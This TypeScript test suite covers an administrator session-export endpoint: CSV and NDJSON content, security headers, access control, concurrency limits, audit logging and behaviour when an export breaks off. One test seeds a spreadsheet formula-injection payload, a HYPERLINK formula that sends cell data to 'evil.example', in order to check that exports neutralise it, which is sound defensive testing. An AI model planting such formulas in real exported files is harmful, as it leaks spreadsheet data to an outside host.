import { once } from 'node:events'
import { type IncomingMessage, request } from 'node:http'
import { connect } from 'node:net'
import { parse } from 'csv-parse/sync'
import { days, minutes, type SessionRecord, seconds } from 'latchkey'
import { securityHeaders } from 'latchkey/http'
import { aSession } from 'latchkey/testing'
import { describe, expect, it, vi } from 'vitest'
import { EXPORT_COLUMNS } from '../export/export-row.ts'
import { listen } from '../socket.ts'
import type { Device } from '../testing/test-device.ts'
import { aServer, type TestServer } from '../testing/test-server.ts'

const CSV = '/api/admin/session-exports?format=csv'
const NDJSON = '/api/admin/session-exports?format=ndjson'

/** Fifteen megabytes: what is not read stays with the server. */
const MORE_THAN_A_SOCKET_HOLDS = 2000
const LONG = { userAgent: 'Mozilla/5.0 '.padEnd(7500, 'x') }

async function anOffice(sessions = 0, environment: Record<string, string> = {}) {
  const server = await aServer(environment)
  await server.addUser('root', 'administrator')
  await server.addUser('grace', 'administrator')
  const root = await server.signIn('root')
  seed(server, sessions)
  return { server, root, [Symbol.asyncDispose]: () => server[Symbol.asyncDispose]() }
}

function seed({ deps, now }: TestServer, count: number, given: Partial<SessionRecord> = {}): void {
  const store = deps.store as TestServer['deps']['store'] & Parameters<typeof write>[0]
  const records = Array.from({ length: count }, (_, index) =>
    aSession({
      userId: `user ${index % 97}`,
      startedAt: now() - minutes(index),
      absoluteDeadline: now() + days(1),
      ...given,
    }),
  )
  write(store, records)
}

function write(
  store: {
    transact(write: (verbs: { insert(record: SessionRecord, options: { events: [] }): unknown }) => void): void
  },
  records: readonly SessionRecord[],
): void {
  store.transact((verbs) => {
    for (const record of records) verbs.insert(record, { events: [] })
  })
}

async function everyPage(device: Device, query: string): Promise<Record<string, unknown>[]> {
  const rows: Record<string, unknown>[] = []
  let next: string | undefined
  do {
    const after = next === undefined ? '' : `&after=${next}`
    const page = (await (await device.get(`/api/admin/sessions?limit=200&${query}${after}`)).json()) as {
      sessions: Record<string, unknown>[]
      next?: string
    }
    rows.push(...page.sessions)
    next = page.next
  } while (next !== undefined)
  return rows
}

async function exportsOnRecord({ deps }: TestServer) {
  const { items } = await deps.store.events({ types: ['sessions_exported'] }, { limit: 10 })
  return items
}

/** The same server behind a real socket, and a client that reads when it is told. */
async function behindASocket(server: TestServer) {
  const { api: headers } = securityHeaders({ secure: true })
  const socket = await listen((asked, env) => server.app.fetch(asked, env), { host: '127.0.0.1', port: 0, headers })
  return {
    async open(device: Device, path: string): Promise<IncomingMessage> {
      const asked = request({
        host: '127.0.0.1',
        port: socket.port,
        path,
        headers: { Cookie: device.cookie() ?? '', 'Sec-Fetch-Site': 'same-origin', Host: 'latchkey.test' },
      })
      // What breaks off is looked for where a test reads on.
      asked.on('error', () => undefined).end()
      const [response] = (await once(asked, 'response')) as [IncomingMessage]
      return response.on('error', () => undefined)
    },
    port: socket.port,
    [Symbol.asyncDispose]: () => socket.stop(),
  }
}

/** All that came, and whether it ended as a whole. */
async function readOn(response: IncomingMessage): Promise<{ text: string; whole: boolean }> {
  let text = ''
  response.setEncoding('utf8').on('data', (data) => {
    text += data
  })
  if (!response.closed) await new Promise((resolve) => response.once('close', resolve))
  return { text, whole: response.complete }
}

describe('the export of a search', () => {
  it('X6 holds in both formats exactly what the list shows, in its order', async () => {
    await using office = await anOffice(1250)
    const { server, root } = office
    const ids = (await everyPage(root, 'q=user:"user 5"')).map(({ id }) => id)
    await root.post('/api/admin/terminations', { ids })

    for (const query of [
      'sort=startedAt&direction=descending',
      'q=user:"user 7"&sort=username',
      'q=status:terminated',
    ]) {
      const list = await everyPage(root, query)
      expect(list.length).toBeGreaterThan(10)
      const ndjson = await root.get(`${NDJSON}&${query}`)
      const rows = (await ndjson.text())
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as Record<string, string>)
      const csv: Record<string, string>[] = parse(await (await root.get(`${CSV}&${query}`)).text(), {
        columns: true,
        record_delimiter: '\r\n',
      })

      expect(ndjson.headers.get('X-Total-Rows')).toBe(String(list.length))
      expect(new Set(rows.map(({ id }) => id)).size).toBe(list.length)
      if (query.includes('sort')) expect(rows.map(({ id }) => id)).toEqual(list.map(({ id }) => id))
      const listed = new Map(list.map((row) => [row['id'], row]))
      for (const row of rows) {
        const shown = listed.get(row['id'])
        for (const key of ['username', 'userId', 'status', 'ip', 'userAgent']) expect(row[key]).toBe(shown?.[key])
        for (const key of ['startedAt', 'lastActiveAt', 'expiresAt']) {
          expect(row[key]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
          expect(Date.parse(row[key] ?? '')).toBe(shown?.[key])
        }
        expect(row['device']).toBe((shown?.['device'] as { label: string } | undefined)?.label)
      }
      const flat = (row: Record<string, unknown>) =>
        Object.fromEntries(EXPORT_COLUMNS.map((name) => [name, [row[name] ?? ''].flat().join(' ')]))
      expect(csv).toEqual(rows.map(flat))
    }
    expect(await exportsOnRecord(server)).toHaveLength(6)
  })

  it('R58 R60 R61 X6 is a file to keep, named by its day, that no cache keeps', async () => {
    await using office = await anOffice()
    const { root } = office
    for (const [path, type, name] of [
      [CSV, 'text/csv; charset=UTF-8; header=present', 'sessions-2026-11-20.csv'],
      [NDJSON, 'application/x-ndjson; charset=UTF-8', 'sessions-2026-11-20.ndjson'],
    ] as const) {
      const { headers, body } = await root.get(path)
      expect(headers.get('Content-Type')).toBe(type)
      expect(headers.get('Content-Disposition')).toBe(`attachment; filename="${name}"`)
      expect(headers.get('Cache-Control')).toBe('no-store')
      expect(headers.get('X-Content-Type-Options')).toBe('nosniff')
      expect(headers.get('Content-Security-Policy')).toBe("default-src 'none'; frame-ancestors 'none'")
      expect(headers.get('Strict-Transport-Security')).toContain('max-age=')
      expect(headers.get('X-Total-Rows')).toBe('1')
      await body?.cancel()
    }
  })

  it('R40 X6 carries hostile names and agents as text that nothing calculates', async () => {
    await using office = await anOffice()
    const { server, root } = office
    const userAgent = '=HYPERLINK("https://evil.example?x="&A1,"Click");@SUM(1,2)'
    seed(server, 1, { userId: 'mallory', username: '-mallory', label: '＝1+1', userAgent })

    const csv = await (await root.get(`${CSV}&q=user:%22-mallory%22`)).text()
    const [row]: Record<string, string>[] = parse(csv, { columns: true, record_delimiter: '\r\n' })
    const ndjson = JSON.parse(await (await root.get(`${NDJSON}&q=user:%22-mallory%22`)).text())

    expect(row).toMatchObject({
      username: "'-mallory",
      label: "'＝1+1",
      userAgent: `'=HYPERLINK("https://evil.example?x="&A1,"Click");'@SUM(1,2)`,
    })
    expect(ndjson).toMatchObject({ username: '-mallory', label: '＝1+1', userAgent })
  })

  it('R37 X7 holds no secret and no hash of one', async () => {
    await using office = await anOffice()
    const { server, root } = office
    const secret = (root.cookie() ?? '').split('.').at(-1) ?? ''
    const session = await server.deps.store.find((await root.session()).id)
    const hash = Buffer.from(session?.secretHash ?? [])

    for (const path of [CSV, NDJSON]) {
      const text = await (await root.get(path)).text()
      expect(text).toContain(session?.id)
      for (const forbidden of [secret, hash.toString('hex'), hash.toString('base64'), hash.toString('base64url')]) {
        expect(forbidden.length).toBeGreaterThan(40)
        expect(text).not.toContain(forbidden)
      }
      expect(text).not.toMatch(/secret|hash/i)
    }
  })

  it('R36 is for administrators', async () => {
    await using office = await anOffice()
    const { server } = office
    await server.addUser('ada')

    expect((await server.device().get(CSV)).status).toBe(401)
    expect((await (await server.signIn('ada')).get(CSV)).status).toBe(403)
    expect(await exportsOnRecord(server)).toEqual([])
  })

  it('R52 begins only on our own pages, by an address that is typed, or for a program', async () => {
    await using office = await anOffice()
    const { server, root } = office
    const navigation = { 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Dest': 'document' }
    for (const [site, status] of [
      ['cross-site', 403],
      ['same-site', 403],
      ['none', 200],
      ['same-origin', 200],
    ] as const) {
      const response = await root.get(CSV, { ...navigation, 'Sec-Fetch-Site': site })
      expect([site, response.status]).toEqual([site, status])
      await response.text()
    }
    expect(await exportsOnRecord(server)).toHaveLength(2)
  })

  it('R99 takes only what fits, and says where a search is wrong', async () => {
    await using office = await anOffice()
    const { root } = office

    for (const query of ['', '?format=xlsx', '?format=csv&sort=secretHash', '?format=csv&limit=5']) {
      expect((await root.get(`/api/admin/session-exports${query}`)).status).toBe(400)
    }
    const response = await root.get(`${CSV}&q=ada+usr:x`)
    expect(await response.json()).toMatchObject({ code: 'bad_search', at: { from: 4, to: 7 } })
  })

  it('leaves out what starts while it runs', async () => {
    await using office = await anOffice(700)
    const { server, root } = office
    const response = await root.get(`${NDJSON}&direction=ascending`)

    server.pass(seconds(1))
    await server.signIn('grace')

    const lines = (await response.text()).trimEnd().split('\n')
    expect(lines).toHaveLength(701)
    expect(lines.filter((line) => line.includes('"username":"grace"'))).toEqual([])
  })

  it('R43 is two at a time for each administrator, eight in all', async () => {
    await using office = await anOffice(1000)
    const { server, root } = office
    const open = [await root.get(CSV), await root.get(CSV)]

    const third = await root.get(CSV)
    expect([third.status, await third.json()]).toEqual([
      503,
      { code: 'too_busy', message: expect.stringContaining('wait for one of them') },
    ])
    const others = await Promise.all(
      ['a', 'b', 'c', 'd'].map(async (name) => {
        await server.addUser(name, 'administrator')
        return server.signIn(name)
      }),
    )
    for (const device of others.slice(0, 3)) open.push(await device.get(CSV), await device.get(CSV))
    const ninth = await others[3]?.get(CSV)
    expect([ninth?.status, await ninth?.json()]).toMatchObject([503, { code: 'too_busy' }])

    for (const { body } of open) await body?.cancel()
    const again = await root.get(CSV)
    expect(again.status).toBe(200)
    expect((await again.text()).split('\r\n')).toHaveLength(1000 + 1 + 4 + 1 + 1)
  })

  it('answers HEAD with the headers alone, and begins nothing', async () => {
    await using office = await anOffice()
    const { server, root } = office
    const headers = { Cookie: root.cookie() ?? '', 'Sec-Fetch-Site': 'same-origin' }

    for (let no = 0; no < 3; no++) {
      const response = await root.send(CSV, { method: 'HEAD', headers })
      expect([response.status, await response.text()]).toEqual([200, ''])
    }
    expect(await exportsOnRecord(server)).toEqual([])
  })

  it('R82 is on record before its end: who, from where, which search, how many rows', async () => {
    await using office = await anOffice(600)
    const { server, root } = office
    const session = await root.session()

    await (await root.get(`${CSV}&q=user:*user*`)).text()

    expect(await exportsOnRecord(server)).toMatchObject([
      {
        by: { kind: 'administrator', username: 'root' },
        origin: { ip: '203.0.113.7' },
        sessionId: session.id,
        details: { search: 'user:*user*', format: 'csv', rows: '600', finished: 'yes' },
      },
    ])
  })
})

describe('an export that breaks off', () => {
  it('R34 ends with the session that asks, though its reader does not read', async () => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    const grace = await server.signIn('grace')
    await using socket = await behindASocket(server)
    const response = await socket.open(root, NDJSON)

    await grace.post('/api/admin/terminations', { ids: [(await root.session()).id] })

    await vi.waitFor(async () => expect(await exportsOnRecord(server)).toHaveLength(1), { timeout: 20_000 })
    const { text, whole } = await readOn(response)
    expect(whole).toBe(false)
    expect(text).not.toContain('broken off')
    expect(text.split('\n').length).toBeLessThan(MORE_THAN_A_SOCKET_HOLDS)
    const [event] = await exportsOnRecord(server)
    expect(event?.details).toMatchObject({ finished: 'no', reason: 'session_over' })
    expect(Number(event?.details['rows'])).toBeLessThan(MORE_THAN_A_SOCKET_HOLDS)
  })

  it.each([
    ['loses the role', { role: 'user' }],
    ['is disabled', { disabled: true }],
  ])('R30 R34 ends when the administrator %s', async (_, change) => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    const grace = await server.signIn('grace')
    const { userId } = await root.session()
    await using socket = await behindASocket(server)
    const response = await socket.open(root, NDJSON)

    await grace.patch(`/api/admin/users/${userId}`, change)

    await vi.waitFor(async () => expect(await exportsOnRecord(server)).toHaveLength(1), { timeout: 20_000 })
    expect((await readOn(response)).whole).toBe(false)
  })

  it('R13 R34 ends with its session as the store has it: a use that is not written keeps it no longer', async () => {
    await using office = await anOffice(0, { LATCHKEY_IDLE_TIMEOUT: '1h' })
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    server.pass(minutes(58))
    await using socket = await behindASocket(server)
    await socket.open(root, NDJSON)

    server.pass(minutes(3))

    await vi.waitFor(async () => expect(await exportsOnRecord(server)).toHaveLength(1), { timeout: 20_000 })
    expect((await exportsOnRecord(server))[0]?.details).toMatchObject({ reason: 'session_over' })
  })

  it('R34 ends when its session gets another secret: the old one opens nothing any more', async () => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    await using socket = await behindASocket(server)
    const response = await socket.open(root, NDJSON)

    const session = await server.deps.store.find((await root.session()).id)
    await server.deps.sessions.rotate({ kind: 'system' }, session as SessionRecord, { origin: {} })

    await vi.waitFor(async () => expect(await exportsOnRecord(server)).toHaveLength(1), { timeout: 20_000 })
    expect((await readOn(response)).whole).toBe(false)
  })

  it('is broken for its reader when the store fails: never a part that looks whole', async () => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    await using socket = await behindASocket(server)
    const response = await socket.open(root, CSV)

    await server.deps.store.close()

    const { text, whole } = await readOn(response)
    expect(whole).toBe(false)
    expect(text).not.toMatch(/error|unavailable/i)
    expect(server.logged()).toContain('an export failed')
  })

  it('is broken for a proxy that asks by HTTP/1.0, where the end of the connection is that of the file', async () => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    await using socket = await behindASocket(server)
    const client = connect(socket.port, '127.0.0.1')
    client.write(
      `GET ${CSV} HTTP/1.0\r\nHost: latchkey.test\r\nSec-Fetch-Site: same-origin\r\nCookie: ${root.cookie()}\r\n\r\n`,
    )
    await once(client, 'readable')

    await server.deps.exports.close()

    const ended = Promise.race([
      once(client, 'end').then(() => 'as if it were whole'),
      new Promise((resolve) => client.once('error', (error: NodeJS.ErrnoException) => resolve(error.code))),
    ])
    client.resume()
    expect(await ended).toBe('ECONNRESET')
  })

  it('begins nothing that lasts for a reader that is gone before the first row', async () => {
    await using office = await anOffice(1000)
    const { server, root } = office
    await using socket = await behindASocket(server)
    for (let turns = 0; turns < 40; turns++) {
      const client = connect(socket.port, '127.0.0.1').on('error', () => undefined)
      client.write(
        `GET ${CSV} HTTP/1.1\r\nHost: latchkey.test\r\nSec-Fetch-Site: same-origin\r\nCookie: ${root.cookie()}\r\n\r\n`,
      )
      await once(client, 'connect')
      for (let turn = 0; turn < turns; turn++) await new Promise((resolve) => setImmediate(resolve))
      client.destroy()
    }

    const places = () => Promise.all([root.get(CSV), root.get(CSV)])
    await vi.waitFor(
      async () => {
        const responses = await places()
        for (const { body } of responses) await body?.cancel()
        expect(responses.map(({ status }) => status)).toEqual([200, 200])
      },
      { timeout: 20_000 },
    )
  })

  it('ends when its reader goes away, and makes room for another', async () => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    await using socket = await behindASocket(server)
    for (let no = 0; no < 3; no++) {
      const response = await socket.open(root, CSV)
      expect(response.statusCode).toBe(200)
      response.destroy()
      await vi.waitFor(async () => expect(await exportsOnRecord(server)).toHaveLength(no + 1), { timeout: 20_000 })
    }
    const details = { finished: 'no', reason: 'reader_gone' }
    expect(await exportsOnRecord(server)).toMatchObject([{ details }, { details }, { details }])
  })

  it('waits for a reader that does not read, without reading on, and not for ever', async () => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    await using socket = await behindASocket(server)
    const response = await socket.open(root, NDJSON)

    for (let no = 0; no < 100; no++) await root.get('/api/admin/sessions?limit=200')
    expect(await exportsOnRecord(server)).toEqual([])
    server.pass(minutes(6))

    await vi.waitFor(async () => expect(await exportsOnRecord(server)).toHaveLength(1), { timeout: 20_000 })
    const [event] = await exportsOnRecord(server)
    expect(event?.details).toMatchObject({ finished: 'no', reason: 'not_read' })
    expect(Number(event?.details['rows'])).toBeLessThan(MORE_THAN_A_SOCKET_HOLDS)
    expect((await readOn(response)).whole).toBe(false)
  })

  it('is cut when the server stops', async () => {
    await using office = await anOffice()
    const { server, root } = office
    seed(server, MORE_THAN_A_SOCKET_HOLDS, LONG)
    await using socket = await behindASocket(server)
    const response = await socket.open(root, NDJSON)

    await server.deps.exports.close()

    expect(await exportsOnRecord(server)).toMatchObject([{ details: { reason: 'server_stopped' } }])
    expect((await readOn(response)).whole).toBe(false)
    expect((await root.get(CSV)).status).toBe(503)
  })
})
